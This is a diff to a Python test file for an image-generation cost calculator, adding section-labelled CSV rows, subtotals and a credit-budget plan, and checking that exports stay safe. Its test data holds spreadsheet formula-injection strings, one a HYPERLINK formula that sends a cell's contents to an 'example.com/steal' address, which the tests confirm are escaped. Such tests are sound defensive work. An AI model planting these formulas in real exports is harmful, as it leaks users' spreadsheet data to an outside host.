@@ -5,6 +5,7 @@ label exactly, the text fakes no line, and none of them fails to be written."""
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import html.parser
 import io
 import json
@@ -19,10 +20,12 @@ from markdown_it import MarkdownIt
 
 from imagine_calc.core.catalog.loader import bundled_files, load_catalog, load_override
 from imagine_calc.core.catalog.records import Catalog
+from imagine_calc.core.estimates.budget import Balances, plan_budget
 from imagine_calc.core.estimates.estimate import Estimate, GenerationItem, PricedEstimate, price_estimate
 from imagine_calc.core.outside_text import readable
 from imagine_calc.core.pricing.requests import GenerationRequest
 from imagine_calc.core.text.exports import (
+    CSV_HEADER,
     export,
     export_bytes,
     kind_of,
@@ -81,25 +84,64 @@ def estimate(labels: list[str], title: str = TITLE, catalog: Catalog = CATALOG) 
     return price_estimate(catalog, Estimate(tuple(items), title))
 
 
+def section(rows: list[list[str]], name: str) -> list[list[str]]:
+    """The CSV's rows of one section: "line", "subtotal", "total" or "budget"."""
+    return [row for row in rows[1:] if row[0] == name]
+
+
 def test_csv_runs_nothing_and_keeps_numbers_numbers() -> None:
     catalog = hostile_catalog()
     text = to_csv(estimate(LABELS, catalog=catalog))
     rows = list(csv.reader(io.StringIO(text)))
-    header, lines, total = rows[0], rows[1:-1], rows[-1]
-    assert header[:5] == ["label", "what", "count", "credits_per_run", "credits"]
-    assert len(lines) == len(LABELS) + 1 and all(len(row) == 9 for row in rows)
+    header, lines, total = rows[0], section(rows, "line"), section(rows, "total")
+    assert header[:6] == ["section", "label", "what", "count", "credits_per_run", "credits"]
+    assert len(lines) == len(LABELS) + 1 and all(len(row) == len(header) for row in rows)
     assert text.count("\r\n") == len(rows) and "\n" not in text.replace("\r\n", "")
-    for row in lines:
-        for cell in (row[0], row[1], *row[5:]):  # every text column
+    for row in rows[1:]:
+        for cell in (row[1], row[2], *row[6:]):  # every text column
             assert not runs(cell), cell
     for row in lines[:-1]:
-        assert int(row[2]) == 3 and Decimal(row[3]) == 98 and Decimal(row[4]) == 294
+        assert int(row[3]) == 3 and Decimal(row[4]) == 98 and Decimal(row[5]) == 294
     hostile = lines[-1]
-    assert hostile[0] == "plain label" and hostile[1].startswith("'" + HOSTILE_NAME)  # `what`
-    assert "=7*6" in hostile[8] and not runs(hostile[8])  # the unknown reason
-    assert total[0] == "Total" and Decimal(total[4]) == 294 * len(LABELS)
-    assert rows[1][0] == '\'=HYPERLINK("http://example.com/steal?"&A1, "Click")'
-    assert rows[3][0] == "'\\x00=7*6"
+    assert hostile[1] == "plain label" and hostile[2].startswith("'" + HOSTILE_NAME)  # `what`
+    assert "=7*6" in hostile[10] and not runs(hostile[10])  # the unknown reason
+    assert total[0][1] == "Total" and Decimal(total[0][5]) == 294 * len(LABELS)
+    assert rows[1][1] == '\'=HYPERLINK("http://example.com/steal?"&A1, "Click")'
+    assert rows[3][1] == "'\\x00=7*6"
+    # The hostile model's subtotal: its name and its reason are cells of their own, made safe too.
+    hostile_subtotal = next(row for row in section(rows, "subtotal") if HOSTILE_NAME in row[1])
+    assert hostile_subtotal[1] == "'" + HOSTILE_NAME and not runs(hostile_subtotal[10])
+
+
+def test_the_csv_has_the_subtotals_the_total_and_the_budget_in_one_table() -> None:
+    """One rectangular table a script filters by `section`; every figure keeps its bound."""
+    catalog = hostile_catalog()
+    priced = estimate(["Hero", "Drafts"], catalog=catalog)
+    balances = Balances(True, Decimal(700), dt.date(2027, 1, 1), Decimal(50))
+    plan = plan_budget(balances, priced)
+    rows = list(csv.reader(io.StringIO(to_csv(priced, plan))))
+    assert {len(row) for row in rows} == {len(CSV_HEADER)} and tuple(rows[0]) == CSV_HEADER
+    assert [row[0] for row in rows[1:]] == ["line"] * 3 + ["subtotal"] * 3 + ["total"] + ["budget"] * 8
+    assert [(r[1], r[2], Decimal(r[5]), r[6]) for r in section(rows, "subtotal")] == [
+        ("Nano Banana 2", "by model", Decimal(588), "exact"),
+        ("'" + HOSTILE_NAME, "by model", Decimal(0), "at_least"),
+        ("Generation", "by kind", Decimal(588), "at_least"),
+    ]
+    # The hostile model's price is unknown: the balance is used at least as much, has at most
+    # what is shown left, and so at most that would be lost; the top-up is emptied, exactly.
+    assert [(r[1], r[2], Decimal(r[5]), r[6]) for r in section(rows, "budget")] == [
+        ("Subscription credits", "available", Decimal(700), "exact"),
+        ("Subscription credits", "used", Decimal(588), "at_least"),
+        ("Subscription credits", "left", Decimal(112), "at_most"),
+        ("Top-up credits", "available", Decimal(50), "exact"),
+        ("Top-up credits", "used", Decimal(0), "at_least"),
+        ("Top-up credits", "left", Decimal(50), "at_most"),
+        ("Short", "credits no balance pays", Decimal(0), "at_least"),
+        ("Lost at renewal", "subscription credits unspent on 2027-01-01", Decimal(112), "at_most"),
+    ]
+    without_budget = [row for row in rows if row[0] != "budget"]
+    assert list(csv.reader(io.StringIO(to_csv(priced)))) == without_budget
+    assert list(csv.reader(io.StringIO(export("csv", priced, catalog, plan)))) == rows  # the CLI's
 
 
 class Rendered(html.parser.HTMLParser):
@@ -205,7 +247,7 @@ def test_the_suffix_names_the_export() -> None:
 def test_any_text_exports_to_every_format(labels: list[str], title: str) -> None:
     priced = estimate(labels, title)
     rows = list(csv.reader(io.StringIO(to_csv(priced))))
-    assert len(rows) == len(labels) + 2 and not any(runs(row[0]) for row in rows)
+    assert len(section(rows, "line")) == len(labels) and not any(runs(row[1]) for row in rows)
     assert render(to_markdown(priced, CATALOG)).tags.count("tr") == len(labels) + 1
     report = json.loads(to_json(priced, CATALOG))
     assert [item["label"] or "Nano Banana 2" for item in report["items"]] == [
